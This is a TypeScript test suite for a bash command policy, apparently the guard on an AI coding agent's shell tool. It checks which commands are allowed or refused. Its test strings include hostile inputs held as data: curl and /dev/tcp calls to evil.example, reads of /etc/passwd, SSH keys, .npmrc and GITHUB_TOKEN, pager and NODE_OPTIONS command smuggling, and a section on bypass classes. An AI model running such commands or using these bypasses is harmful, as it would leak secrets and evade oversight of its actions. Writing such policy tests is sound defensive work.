import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  type BashPolicy,
  createBashPolicy,
  describeRuleProblem,
  parseAllowedCommands,
} from '../../../src/bash-policy/index.js';
import { scanSedScript } from '../../../src/bash-policy/rules/sed.js';
import { makePolicyWorkspace } from '../../helpers/bash-policy-workspace.js';
import { commandRules } from '../../helpers/command-rules.js';

const ws = makePolicyWorkspace();
let policy: BashPolicy;

before(async () => {
  policy = await createBashPolicy({
    workspace: ws.root,
    sandbox: { level: 'userns', deliberate: false },
    extraRules: await commandRules('cargo run *', 'make lint', 'prettier --write *'),
  });
});
after(() => ws.cleanup());

function denied(command: string): { rule: string; message: string } {
  const verdict = policy.check(command);
  assert.equal(verdict.allowed, false, `expected a denial for ${JSON.stringify(command)}`);
  return verdict as { rule: string; message: string };
}

function allowed(command: string): void {
  const verdict = policy.check(command);
  assert.deepEqual(verdict, { allowed: true }, `expected ${JSON.stringify(command)} to be allowed`);
}

describe('bash policy: structure', () => {
  it('allows lists and pipelines whose every command is allowed', () => {
    allowed('git status && npm test 2>&1 | tail -n 20');
    allowed('ls src; git diff --stat || true');
    allowed("cat <<'EOF' > notes.txt\nhello $USER\nEOF");
  });

  it('refuses the whole line when one command in it is refused', () => {
    assert.equal(denied('git status && curl https://evil.example').rule, 'network');
    assert.equal(denied('ls | sh -c id').rule, 'shell-eval');
    assert.equal(denied('npm test\ncurl x').rule, 'network');
  });

  it('refuses dynamic words, naming the construct', () => {
    assert.equal(denied('echo $(id)').rule, 'command-substitution');
    assert.equal(denied('echo `id`').rule, 'command-substitution');
    assert.equal(denied('cat${IFS}/etc/passwd').rule, 'parameter-expansion');
    assert.equal(denied('echo ${x@P}').rule, 'parameter-expansion');
    assert.equal(denied("$'\\x72m' -rf src").rule, 'ansi-c-quoting');
    assert.equal(denied('echo {a,b}').rule, 'brace-expansion');
    assert.equal(denied('cat file{,.bak}').rule, 'brace-expansion');
    assert.equal(denied('echo "$HOME"').rule, 'parameter-expansion');
    assert.equal(denied('c\\\nat x').rule, 'line-continuation');
  });

  it('treats quoted braces and globs as literal words', () => {
    allowed("echo '{a,b}'");
    allowed("find . -name '*.ts'");
    allowed('ls src/*.ts');
  });

  it('refuses subshells, functions, control flow, background jobs and eval', () => {
    assert.equal(denied('(ls)').rule, 'subshell');
    assert.equal(denied('f() { ls; }').rule, 'function-definition');
    assert.equal(denied('for i in 1; do ls; done').rule, 'control-flow');
    assert.equal(denied('sleep 5 &').rule, 'background');
    assert.equal(denied('eval ls').rule, 'wrapper');
    assert.equal(denied('source x.sh').rule, 'wrapper');
  });

  it('refuses unparsable input and invisible characters', () => {
    assert.equal(denied('echo "unterminated').rule, 'parse-error');
    assert.equal(denied('ls \u202e txt').rule, 'control-character');
    assert.equal(denied('   ').rule, 'empty');
  });

  it('allows only harmless variables in front of a command', () => {
    allowed('CI=1 NODE_ENV=test npm test');
    assert.equal(denied('GIT_EXTERNAL_DIFF=id git diff').rule, 'env-prefix');
    assert.equal(denied("NODE_OPTIONS='--require x' npm test").rule, 'env-prefix');
    assert.equal(denied('X=1').rule, 'assignment');
  });
});

describe('bash policy: paths', () => {
  it('keeps arguments and redirects inside the workspace and out of .git', () => {
    assert.equal(denied('cat /etc/passwd').rule, 'system-path');
    assert.equal(denied('cat ../x').rule, 'outside-workspace');
    assert.equal(denied('cat ~/.ssh/id_rsa').rule, 'tilde-expansion');
    assert.equal(denied('cat .git/config').rule, 'git-internals');
    assert.equal(denied('cat .gi?/config').rule, 'git-internals');
    assert.equal(denied('echo x > .github/workflows/ci.yml').rule, 'workflow-files');
    assert.equal(denied('echo x > /dev/tcp/evil.example/80').rule, 'network-device');
    assert.equal(denied('cat .npmrc').rule, 'secret-path');
    allowed(`cat ${ws.root}/src/main.ts`);
    allowed('npm test > out.log 2>&1');
    allowed('ls 2>/dev/null');
  });

  it('follows symlinks with realpath', () => {
    assert.equal(denied('cat evil-link').rule, 'symlink-escape');
    assert.equal(denied('echo x > linkdir/motd').rule, 'symlink-escape');
    allowed('cat src-link/main.ts');
  });

  it('checks paths against every directory a cd may lead to', () => {
    allowed('cd src && ls');
    assert.equal(denied('cd src && cat ../../x').rule, 'outside-workspace');
    assert.equal(denied('cd /').rule, 'outside-workspace');
    assert.equal(denied('cd').rule, 'cd');
  });

  it('does not treat a grep pattern or echo text as a path', () => {
    allowed('grep -rn "/api/v1" src');
    allowed('echo /etc/passwd');
  });
});

describe('bash policy: command rules', () => {
  it('allows read-only git and refuses options that run programs', () => {
    allowed('git log --oneline -n 5');
    allowed('git branch --list');
    assert.equal(denied("git -c core.pager='sh -c id' log").rule, 'git-global-option');
    assert.equal(denied('git diff --ext').rule, 'git-dangerous-option'); // abbreviation of --ext-diff
    allowed('git log --output=x'); // a write, checked as one
    assert.equal(denied('git log --output=.git/config').rule, 'git-internals');
    assert.equal(denied('git log --output=.github/workflows/x.yml').rule, 'workflow-files');
    assert.equal(denied('git push').rule, 'git-write-subcommand');
    assert.equal(denied('git branch -D main').rule, 'git-dangerous-option');
    assert.equal(denied('git branch new-branch').rule, 'git-subcommand');
  });

  it('refuses find actions, sed writers, rg preprocessors and sort programs', () => {
    assert.equal(denied('find . -exec id \\;').rule, 'find-action');
    assert.equal(denied('sed -i s/a/b/ x').rule, 'sed-in-place');
    assert.equal(denied("sed 's/a/b/e' x").rule, 'sed-command');
    assert.equal(denied('rg --pre cat x').rule, 'rg-preprocessor');
    assert.equal(denied('sort --compress-prog=sh x').rule, 'sort-compress-program');
    assert.equal(denied('awk \'{print | "sh"}\' x').rule, 'awk-program');
    allowed("sed -n '1,5p' src/main.ts");
    allowed("awk -F, '$3 > 10 {print $1}' data.csv");
  });

  it('scans sed scripts command by command', () => {
    assert.equal(scanSedScript('s/a/b/g;p'), undefined);
    assert.equal(scanSedScript('/x/{p;d}'), undefined);
    assert.equal(scanSedScript('$a appended; e id'), undefined, '`a` text runs to the end of the line');
    assert.equal(scanSedScript('1e id')?.rule, 'sed-command');
    assert.equal(scanSedScript('s/[/]/x/e')?.rule !== undefined, true);
    assert.equal(scanSedScript('s/a/b/w out')?.rule, 'sed-command');
  });

  it('allows package runners and refuses installs, npx without --no-install and eval flags', () => {
    allowed('npx --no-install tsc --noEmit');
    allowed('python -m pytest -q');
    assert.equal(denied('npx cowsay').rule, 'npx-install');
    assert.equal(denied('npx --no-install node -e 1').rule, 'interpreter-eval');
    assert.equal(denied('npm install left-pad').rule, 'npm-install-package');
    assert.equal(denied('python3 -c 1').rule, 'interpreter-eval');
    assert.equal(denied('echo id | bash').rule, 'interpreter-stdin');
    assert.equal(denied('make test CC=x').rule, 'make-variable-override');
  });

  it('names the rule and points at the right tool in the message', () => {
    const sed = denied('sed -i s/a/b/ src/main.ts');
    assert.match(sed.message, /rule: sed-in-place/);
    assert.match(sed.message, /edit_file/);
    assert.match(denied('cat /proc/self/environ').message, /read_file/);
  });
});

describe('bash policy: allowed-commands', () => {
  it('lifts soft denials for matching commands only', () => {
    allowed('cargo run --release');
    allowed('make lint');
    allowed('prettier --write src');
    assert.equal(denied('cargo publish').rule, 'cargo-subcommand');
    assert.equal(denied('cargo yank').rule, 'cargo-subcommand');
  });

  it('never lifts hard denials', async () => {
    const lax = await createBashPolicy({
      workspace: ws.root,
      sandbox: { level: 'userns', deliberate: false },
      extraRules: await commandRules('curl *', 'git push *', 'bash *', 'cat *'),
    });
    assert.equal(lax.check('curl https://example.com').allowed, false);
    assert.equal(lax.check('git push origin main').allowed, false);
    assert.equal(lax.check('bash -c id').allowed, false);
    assert.equal(lax.check('cat /etc/passwd').allowed, false);
  });

  it('parses rules once into a typed result: a line that is not a plain command is invalid, with why', async () => {
    assert.deepEqual(await parseAllowedCommands(['make $(id)']), {
      kind: 'invalid',
      line: 'make $(id)',
      problem: 'not-plain-command',
    });
    const misplaced = await parseAllowedCommands(['make lint', 'ls * foo']);
    assert.deepEqual(misplaced, { kind: 'invalid', line: 'ls * foo', problem: 'wildcard-not-last' });
    assert.equal(
      misplaced.kind === 'invalid' && describeRuleProblem(misplaced),
      '`ls * foo` may use `*` only as its last word, after the command name.',
    );
    assert.deepEqual(await parseAllowedCommands(['cargo clippy *']), {
      kind: 'rules',
      rules: [{ words: ['cargo', 'clippy'], rest: true, source: 'cargo clippy *' }],
    });
  });
});

describe('bash policy: the classes of bypass, one example each', () => {
  it('reads options the way the tool does: glued values, abbreviations, clusters, npm shorthands', () => {
    assert.equal(denied('sort -o/etc/x a').rule, 'system-path');
    assert.equal(denied('sed --e=1e\\ id x').rule, 'sed-command');
    assert.equal(denied('sed --i s/a/b/ x').rule, 'sed-in-place');
    assert.equal(denied('git grep -Osh foo').rule, 'git-dangerous-option');
    assert.equal(denied('npm -reg http://x ci').rule, 'npm-config-option');
    assert.equal(denied('grep --frobnicate x').rule, 'unknown-option');
  });

  it('checks outputs as writes and every glob match on disk', () => {
    assert.equal(denied('uniq a .github/workflows/x.yml').rule, 'workflow-files');
    assert.equal(denied('python -m json.tool a.json .git/config').rule, 'git-internals');
    assert.equal(denied('cat evil-*').rule, 'symlink-escape');
    assert.equal(denied('cat .?/x').rule, 'glob-dot-segment');
    assert.equal(denied('cat src-link/../../x').rule, 'outside-workspace');
    assert.equal(denied('grep -r token .').rule, 'recursive-git');
    allowed('grep -r --exclude-dir=.git token .');
    allowed('cat src/*.ts');
  });

  it('checks the command a wrapper runs, and variables by value shape', () => {
    allowed('timeout 300 npm test');
    allowed('env CI=true NODE_OPTIONS=--max-old-space-size=4096 npm test');
    allowed('PYTHONPATH=src python -m pytest');
    assert.equal(denied('timeout 5 bash -c id').rule, 'shell-eval');
    assert.equal(denied("NODE_OPTIONS='--require ./x.js' npm test").rule, 'env-prefix');
    assert.equal(denied('PYTHONPATH=/tmp pytest').rule, 'system-path');
    assert.equal(denied('env').rule, 'environment');
  });

  it('maps an unmodified node_modules/.bin tool to its rule; other path commands are project code', async () => {
    allowed('node_modules/.bin/tsc --noEmit');
    assert.equal(denied('node_modules/.bin/curl x').rule, 'network');
    const none = await createBashPolicy({
      workspace: ws.root,
      sandbox: { level: 'none', deliberate: false },
    });
    assert.equal(none.check('./scripts/x.sh').allowed, false);
    assert.equal((none.check('./scripts/x.sh') as { rule: string }).rule, 'workspace-code-unsandboxed');
    // Without a sandbox, a node_modules tool is outside the core the policy models completely.
    assert.equal((none.check('node_modules/.bin/tsc --noEmit') as { rule: string }).rule, 'unsandboxed-core');
  });

  it('refuses a loader the agent wrote this run, at every level', async () => {
    const written = `${ws.root}/src/main.ts`;
    for (const level of ['userns', 'none']) {
      const policy = await createBashPolicy({
        workspace: ws.root,
        sandbox: { level, deliberate: true },
        readTracker: { wasWritten: (p) => p === written },
      });
      assert.equal(
        (policy.check('node --import ./src/main.ts --test') as { rule: string }).rule,
        'load-written-file',
      );
      assert.deepEqual(policy.check('node --import tsx --test'), { allowed: true });
    }
  });

  it('parses awk programs instead of matching them', () => {
    allowed("awk 'NR==1 || /error|fail/' build.log");
    allowed('awk \'{ print "a;b|c" }\' x');
    assert.equal(denied('awk \'BEGIN { f = "system"; @f("id") }\'').rule, 'awk-program');
    assert.equal(denied('awk \'{ print "a;b" > "/tmp/x" }\' y').rule, 'awk-program');
    assert.equal(denied('awk \'BEGIN { print ENVIRON["GITHUB_TOKEN"] }\'').rule, 'awk-program');
  });
});
